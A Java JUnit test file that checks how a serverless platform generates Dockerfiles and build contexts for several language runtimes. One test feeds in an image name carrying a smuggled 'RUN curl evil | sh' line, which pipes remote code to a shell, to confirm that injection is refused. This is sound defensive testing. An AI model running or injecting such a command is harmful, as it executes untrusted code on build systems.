package io.granda.runtimes;

import io.granda.core.build.BuildContext;
import io.granda.core.build.FunctionSource;
import io.granda.core.build.LanguageRuntime;
import io.granda.core.build.SourceFile;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class BuildContextTest {

    @Test
    void theDockerfileStartsFromTheChosenImages() {
        assertEquals(List.of("FROM granda-base/python:3.11-bookworm"),
                froms(context("python", Map.of("base", "granda-base/python:3.11-bookworm"), "handler.py")));
        assertEquals(List.of("FROM node:20-slim"), froms(context("node", Map.of("base", "node:20-slim"), "handler.js")));
        assertEquals(List.of("FROM golang:1.22 AS build", "FROM gcr.io/distroless/static"),
                froms(context("go", Map.of("build", "golang:1.22", "run", "gcr.io/distroless/static"), "main.go")));
        assertEquals(List.of("FROM granda-base/openjdk:17-bookworm"),
                froms(context("java", Map.of("base", "granda-base/openjdk:17-bookworm"), "Handler.java")));
        assertEquals(List.of("FROM granda-base/golang:1.19-bookworm AS build", "FROM granda-base/debian:bookworm"),
                froms(context("shell", Map.of("build", "granda-base/golang:1.19-bookworm",
                        "run", "granda-base/debian:bookworm"), "handler.sh")));
    }

    @Test
    void aRoleNotChosenGetsItsFirstCandidate() {
        assertEquals(List.of("FROM golang:1.22 AS build", "FROM debian:bookworm-slim"),
                froms(context("go", Map.of(), "main.go")));
    }

    @Test
    void anImageThatCouldAddLinesToTheDockerfileIsRefused() {
        assertThrows(IllegalArgumentException.class,
                () -> context("python", Map.of("base", "python:3.12\nRUN curl evil | sh"), "handler.py"));
    }

    @Test
    void theShimFilesAreUnderTheReservedDirectory() {
        assertEquals(Set.of(".granda/shim.py"), shimFiles(context("python", Map.of(), "handler.py")));
        assertEquals(Set.of(".granda/shim.cjs"), shimFiles(context("node", Map.of(), "handler.js")));
        assertEquals(Set.of(".granda/execshim/go.mod", ".granda/execshim/main.go"),
                shimFiles(context("go", Map.of(), "main.go")));
        assertEquals(Set.of(".granda/execshim/go.mod", ".granda/execshim/main.go"),
                shimFiles(context("shell", Map.of(), "handler.sh")));
        assertEquals(Set.of(".granda/GrandaShim.java"), shimFiles(context("java", Map.of(), "Handler.java")));
        String shim = new String(context("python", Map.of(), "handler.py").files().get(".granda/shim.py"),
                StandardCharsets.UTF_8);
        assertTrue(shim.contains("def main():"), "the shim's own text");
    }

    @Test
    void theFunctionsFilesAreThereAsTheyAre() {
        byte[] data = {0, 1, 2, (byte) 0xff};
        FunctionSource source = new FunctionSource("python", List.of(SourceFile.text("handler.py", "def handle(r): pass"),
                new SourceFile("data/model.bin", data), SourceFile.text("requirements.txt", "requests\n")));
        BuildContext context = Samples.runtime("python").buildContext(source, Map.of());
        assertArrayEquals(data, context.files().get("data/model.bin"));
        assertEquals("def handle(r): pass", new String(context.files().get("handler.py"), StandardCharsets.UTF_8));
        assertEquals(List.of("Dockerfile", ".dockerignore", ".granda/shim.py", "handler.py", "data/model.bin",
                "requirements.txt"), List.copyOf(context.files().keySet()));
        assertEquals("Dockerfile\n.dockerignore\n", new String(context.files().get(".dockerignore"),
                StandardCharsets.UTF_8), "the Dockerfile stays out of the function's directory");
    }

    @Test
    void everyImageStartsTheShim() {
        assertTrue(dockerfile("python", "handler.py").contains("ENTRYPOINT [\"/venv/bin/python3\", \"/app/.granda/shim.py\"]"));
        assertTrue(dockerfile("node", "handler.js").contains("ENTRYPOINT [\"node\", \"/app/.granda/shim.cjs\"]"));
        assertTrue(dockerfile("go", "main.go").contains("ENTRYPOINT [\"/app/.granda/exec-shim\", \"--\", \"/app/function\"]"));
        assertTrue(dockerfile("shell", "handler.sh")
                .contains("ENTRYPOINT [\"/app/.granda/exec-shim\", \"--\", \"/bin/bash\", \"/app/handler.sh\"]"));
        assertTrue(dockerfile("java", "Handler.java").contains("\"-cp\", \"/app\", \"GrandaShim\"]"));
        for (LanguageRuntime r : Runtimes.defaults().all()) {
            String dockerfile = dockerfile(r.name(), r.handlerFile());
            assertFalse(dockerfile.contains("{{") || dockerfile.contains("#if") || dockerfile.contains("#end"),
                    r.name() + ": " + dockerfile);
        }
    }

    @Test
    void pythonRequirementsAreInstalledIntoAVenvOnlyWhenThereAreAny() {
        String without = dockerfile("python", "handler.py");
        assertTrue(without.contains("python3 -m venv --without-pip --system-site-packages /venv"), without);
        assertFalse(without.contains("pip install"), without);
        assertTrue(without.contains("python3 -m py_compile handler.py"), without);
        String with = dockerfile(new FunctionSource("python", List.of(SourceFile.text("handler.py", "x"),
                SourceFile.text("requirements.txt", "requests"))));
        assertTrue(with.contains("python3 -m venv --system-site-packages /venv"), with);
        assertTrue(with.contains("COPY requirements.txt /app/requirements.txt\nRUN /venv/bin/python3 -m pip install"
                + " -r requirements.txt"), with);
    }

    @Test
    void npmInstallsOnlyAPackageJsonWithoutItsOwnNodeModules() {
        assertFalse(dockerfile("node", "handler.js").contains("npm install"));
        FunctionSource withPackage = new FunctionSource("node", List.of(SourceFile.text("handler.js", "x"),
                SourceFile.text("package.json", "{}")));
        assertTrue(dockerfile(withPackage).contains("COPY package*.json /app/\nRUN npm install --omit=dev"));
        assertFalse(dockerfile(withPackage.with(SourceFile.text("node_modules/left-pad/index.js", "x")))
                .contains("npm install"), "node_modules/ brought along is used as it is");
        assertTrue(dockerfile("node", "handler.js").contains("node --check handler.js"));
    }

    @Test
    void goBuildsOfflineAndStatic() {
        String dockerfile = dockerfile("go", "main.go");
        assertTrue(dockerfile.contains("GOPROXY=off"));
        assertTrue(dockerfile.contains("CGO_ENABLED=0"));
        assertTrue(dockerfile.contains("if [ ! -f go.mod ]; then go mod init function; fi"));
        assertTrue(dockerfile.contains("if [ -f vendor/modules.txt ]; then mode=vendor; else mode=mod; fi"));
        assertTrue(dockerfile.contains("COPY --from=build /out/function /app/function"));
    }

    @Test
    void javaCompilesForSeventeenAndChecksTheHandler() {
        String dockerfile = dockerfile("java", "Handler.java");
        assertTrue(dockerfile.contains("javac --release 17 -encoding UTF-8 -d /app @/tmp/sources"), dockerfile);
        assertTrue(dockerfile.contains("java -cp /app GrandaShim --check"), dockerfile);
    }

    private static BuildContext context(String runtime, Map<String, String> images, String handler) {
        return Samples.runtime(runtime).buildContext(Samples.source(runtime, handler, "x"), images);
    }

    private static String dockerfile(String runtime, String handler) {
        return context(runtime, Map.of(), handler).dockerfile();
    }

    private static String dockerfile(FunctionSource source) {
        return Samples.runtime(source.runtime()).buildContext(source, Map.of()).dockerfile();
    }

    private static List<String> froms(BuildContext context) {
        return context.dockerfile().lines().filter(l -> l.startsWith("FROM ")).toList();
    }

    private static Set<String> shimFiles(BuildContext context) {
        return Set.copyOf(context.files().keySet().stream().filter(p -> p.startsWith(".granda/")).toList());
    }
}
